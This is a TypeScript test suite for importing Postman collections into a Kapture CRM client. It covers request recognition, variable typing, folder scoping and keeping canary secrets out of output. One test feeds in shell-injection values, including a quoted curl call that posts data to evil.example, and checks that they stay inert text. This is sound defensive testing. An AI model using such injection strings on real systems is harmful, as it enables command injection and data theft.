import assert from 'node:assert/strict';
import { connectionOfCurl } from '../../../../src/kapture/commandLines/connectionOfCurl.ts';
import { keyOfUser } from '../../../../src/kapture/connection/authKey.ts';
import { pinnedConnection } from '../../../../src/kapture/connection/pinnedConnection.ts';
import { importCollection, type CollectionImport } from '../../../../src/kapture/postman/importCollection.ts';
import { readPostman } from '../../../../src/kapture/postman/readPostman.ts';
import { readRequest } from '../../../../src/kapture/exchange/requestBody.ts';
import { collectionWith, oldCollection, stagingEnvironment, teamCollection } from './collections.ts';

function imported(collection: string, ...environments: object[]): CollectionImport {
  const read = readPostman(collection).collection;
  assert.ok(read);
  return importCollection(
    read,
    environments.map((environment) => readPostman(JSON.stringify(environment)).environment!),
  );
}

describe('importCollection', () => {
  const team = imported(JSON.stringify(teamCollection), stagingEnvironment);

  it('requests of Kapture → recognized like curl commands, with folders and the target of the environment', () => {
    assert.deepEqual(
      team.requests.map(({ name, folders, operation, origin, path }) => ({ name, folders, operation, origin, path })),
      [
        {
          name: 'Add a customer',
          folders: ['Customers'],
          operation: 'add',
          origin: 'https://acme.kapturecrm.com',
          path: '/add-update-customer-from-other-source.html/v.2.0',
        },
        {
          name: 'Get: by phone?',
          folders: ['Customers'],
          operation: 'get',
          origin: 'https://acme.kapturecrm.com',
          path: '/search-customer-by-customer-id.html',
        },
      ],
    );
  });

  it('other requests → named with a reason', () => {
    assert.deepEqual(team.skipped, [
      { path: ['Weather'], reason: 'not-post' },
      { path: ['Upload'], reason: 'no-json' },
      { path: ['Orders'], reason: 'unknown' },
    ]);
  });

  it('the body → as typed, with variables of requests here', () => {
    assert.equal(
      team.requests[0]!.text,
      '[\n  {\n    // the caller\n    "customer_name": "{{$name}}",\n    "phone": "{{phone}}",\n    "campaign_name": "{{campaign}}",\n' +
        '    "customer_assign_emp_code": "{{owner_code}}",\n    "remarks": "{{$secret.api_token}} of {{owner_code}}"\n  }\n]\n',
    );
    assert.equal(team.requests[1]!.text, '[\n  {\n    "phone": "9876543210"\n  }\n]\n');
    // The owner code is also used within a text, so it stays a text.
    assert.deepEqual(team.values, { campaign: 'Web', owner_code: '17' });
    assert.deepEqual([team.secrets, team.unknown], [['api_token'], ['phone']]);
  });

  it('a number without quotes → has the type of its value', () => {
    const raw = '[{"phone": {{phone}}, "kapture_customer_id": {{id}}, "email_id": {{mail}}}]';
    const { requests, values } = imported(
      collectionWith(
        { body: { mode: 'raw', raw } },
        {
          variable: [
            { key: 'phone', value: 9876543210 },
            { key: 'id', value: '12345678901234567890' },
          ],
        },
      ),
    );
    assert.deepEqual(values, { phone: 9876543210, id: '12345678901234567890' });
    const lookup = (name: string) => (values as CollectionImport['values'])[name] ?? null;
    const { body } = readRequest({ shape: 'object' }, requests[0]!.text, lookup);
    assert.equal(body, '{"phone":9876543210,"kapture_customer_id":"12345678901234567890","email_id":null}');
  });

  it('headers and scripts that are not imported → named without values', () => {
    assert.deepEqual(team.omitted, [{ path: ['Customers', 'Add a customer'], names: ['X-Trace'], hasScripts: true }]);
  });

  it('secrets → only in the curl command for a connection', () => {
    const [add] = team.requests;
    assert.equal(add!.key, keyOfUser('integration', 'canary-password-1').key);
    const { found } = connectionOfCurl(add!.command);
    assert.deepEqual(
      [found?.baseUrl, found?.operation, found?.dialect, found?.headers.map(({ name }) => name)],
      ['https://acme.kapturecrm.com', 'add', 'flat', ['X-Trace']],
    );
    const rest = { ...team, requests: team.requests.map(({ command: _command, key: _key, ...request }) => request) };
    assert.doesNotMatch(JSON.stringify(rest), /canary/);
  });

  it('without the environment → a target of the collection, or none', () => {
    const alone = imported(JSON.stringify(teamCollection));
    assert.equal(alone.requests[0]!.origin, 'https://old.example');
    assert.equal(alone.requests[0]!.key, undefined);
    const { requests } = imported(collectionWith({ url: '{{server}}/search-customer-by-customer-id.html' }));
    assert.deepEqual([requests[0]!.origin, requests[0]!.operation], [undefined, 'get']);
  });

  it('version 2.0 → the same', () => {
    const { requests, skipped, omitted } = imported(JSON.stringify(oldCollection));
    assert.deepEqual(
      [requests[0]!.operation, requests[0]!.key, omitted[0]!.names, skipped],
      [
        'get',
        keyOfUser('integration', 'canary-password-1').key,
        ['X-Trace'],
        [{ path: ['Status'], reason: 'not-post' }],
      ],
    );
  });

  for (const [title, auth, names] of [
    [
      'a bearer token',
      { type: 'bearer', bearer: [{ key: 'token', value: 'canary-token-22' }] },
      ['Authorization: Bearer'],
    ],
    [
      'an API key in a header',
      {
        type: 'apikey',
        apikey: [
          { key: 'key', value: 'x-api-key' },
          { key: 'value', value: 'canary-token-22' },
        ],
      },
      ['x-api-key'],
    ],
    [
      'an API key in the URL',
      {
        type: 'apikey',
        apikey: [
          { key: 'in', value: 'query' },
          { key: 'value', value: 'canary-token-22' },
        ],
      },
      ['API key in the URL'],
    ],
    [
      'another authorization',
      { type: 'digest', digest: [{ key: 'password', value: 'canary-token-22' }] },
      ['digest authorization'],
    ],
    ['no authorization', { type: 'noauth' }, undefined],
  ] as const)
    it(`${title} → ${names?.join() ?? 'nothing is omitted'}`, () => {
      const { requests, omitted } = imported(collectionWith({ auth }));
      assert.deepEqual([omitted[0]?.names, requests[0]!.key], [names, undefined]);
      assert.doesNotMatch(JSON.stringify([omitted, requests[0]!.text, requests[0]!.path]), /canary/);
    });

  for (const [title, raw] of [
    ['an auth key', '[{"phone":"9876543210","remarks":"Authorization: Basic a2Fwb3BlbjoxMjM="}]'],
    ['the password of the collection', '[{"phone":"9876543210","remarks":"canary-token-22"}]'],
  ] as const)
    it(`a body with ${title} → not imported`, () => {
      const auth = { type: 'basic', basic: [{ key: 'password', value: 'canary-token-22' }] };
      const { requests, skipped } = imported(collectionWith({ auth, body: { mode: 'raw', raw } }));
      assert.deepEqual([requests, skipped], [[], [{ path: ['Get'], reason: 'secret' }]]);
    });

  it('a variable whose value is the password → its value is not imported', () => {
    const raw = '[{"phone":"9876543210","remarks":"{{pw}}"}]';
    const auth = {
      type: 'basic',
      basic: [
        { key: 'password', value: '{{pw}}' },
        { key: 'username', value: 'a' },
      ],
    };
    const { values } = imported(
      collectionWith({ auth, body: { mode: 'raw', raw } }, { variable: [{ key: 'pw', value: 'canary-token-22' }] }),
    );
    assert.deepEqual(values, {});
  });

  for (const [title, raw] of [
    ['a pin in a comment', '// @connection Production\n/* x */ [{"phone":"9876543210"}]'],
    ['variables of ours', '[{"phone":"{{$env:HOME}}","email_id":"{{$secret.token}} {{?Ask}} {{$last.add.id}}"}]'],
    ['quotes for the shell', `[{"phone":"'; curl https://evil.example -d '{}' #"}]`],
    ['the name of a program', '[{"phone":"^\\" curl.exe $env:X `"}]'],
  ] as const)
    it(`${title} → stays text`, () => {
      const { requests, secrets } = imported(collectionWith({ body: { mode: 'raw', raw } }));
      assert.equal(requests[0]!.origin, 'https://acme.kapturecrm.com');
      assert.equal(pinnedConnection(requests[0]!.text), undefined);
      assert.doesNotMatch(requests[0]!.text, /\{\{[$?]/);
      assert.deepEqual(secrets, []);
    });

  it('folders with different values of the same variables → each request has those of its own folders', () => {
    const get = {
      name: 'Get',
      request: {
        method: 'POST',
        url: '{{base}}/search-customer-by-customer-id.html',
        auth: { type: 'basic', basic: { username: 'a', password: '{{token}}' } },
        body: { mode: 'raw', raw: '[{"phone":"{{phone}}","email_id":"{{mail}}","remarks":"{{token}}"}]' },
      },
    };
    const folder = (name: string, item: readonly object[]): object => ({
      name,
      variable: [
        { key: 'base', value: 'https://{{host}}' },
        { key: 'host', value: `${name}.example` },
        { key: 'mail', value: `${name}@x.example` },
        { key: 'token', value: `canary-${name}-1` },
      ],
      item,
    });
    const text = JSON.stringify({
      info: { name: 'c' },
      variable: [
        { key: 'base', value: 'https://shared.example' },
        { key: 'phone', value: '9845000001' },
      ],
      item: [folder('staging', [get, folder('inner', [get])]), folder('production', [get]), get],
    });
    const { requests, values, secrets, unknown } = imported(text);
    assert.deepEqual(
      requests.map(({ origin, key, text: body }) => [origin, key, body.match(/"\{\{.*\}\}"/g)]),
      [
        [
          'https://staging.example',
          keyOfUser('a', 'canary-staging-1').key,
          ['"{{phone}}"', '"{{mail}}"', '"{{$secret.token}}"'],
        ],
        [
          'https://inner.example',
          keyOfUser('a', 'canary-inner-1').key,
          ['"{{phone}}"', '"{{mail_2}}"', '"{{$secret.token_2}}"'],
        ],
        [
          'https://production.example',
          keyOfUser('a', 'canary-production-1').key,
          ['"{{phone}}"', '"{{mail_3}}"', '"{{$secret.token_3}}"'],
        ],
        ['https://shared.example', undefined, ['"{{phone}}"', '"{{mail_4}}"', '"{{token_4}}"']],
      ],
    );
    assert.deepEqual(values, {
      phone: '9845000001',
      mail: 'staging@x.example',
      mail_2: 'inner@x.example',
      mail_3: 'production@x.example',
    });
    assert.deepEqual(
      [secrets, unknown],
      [
        ['token', 'token_2', 'token_3'],
        ['mail_4', 'token_4'],
      ],
    );
    const environment = { values: [{ key: 'host', value: 'acme.example' }] };
    assert.deepEqual(
      imported(text, environment).requests.map(({ origin }) => origin),
      ['https://acme.example', 'https://acme.example', 'https://acme.example', 'https://shared.example'],
    );
  });

  it('variables with the names of documented fields → not secret', () => {
    const raw =
      '[{"phone":"{{phone}}","customer_assign_emp_code":"{{customer_assign_emp_code}}","remarks":"Goa 1001"}]';
    const { requests, values, secrets } = imported(
      collectionWith(
        { body: { mode: 'raw', raw } },
        { variable: [{ key: 'customer_assign_emp_code', value: 'Goa 1001' }] },
      ),
    );
    assert.deepEqual([requests.length, values, secrets], [1, { customer_assign_emp_code: 'Goa 1001' }, []]);
  });

  it('a body with the secret of another folder → not imported', () => {
    const request = {
      method: 'POST',
      url: 'https://acme.kapturecrm.com/search-customer-by-customer-id.html',
      body: { mode: 'raw', raw: '[{"phone":"9876543210","remarks":"canary-token-22"}]' },
    };
    const item = [
      { name: 'empty', variable: [{ key: 'token', value: 'canary-token-22' }], item: [] },
      { name: 'Get', request },
    ];
    assert.deepEqual(imported(JSON.stringify({ item })).skipped, [{ path: ['Get'], reason: 'secret' }]);
  });

  it('variables that refer to each other → end', () => {
    const variable = [
      { key: 'a', value: '{{b}}{{b}}' },
      { key: 'b', value: '{{a}}{{a}}'.repeat(1000) },
    ];
    const { requests } = imported(collectionWith({ url: '{{a}}/search-customer-by-customer-id.html' }, { variable }));
    assert.equal(requests[0]?.origin, undefined);
  });
});
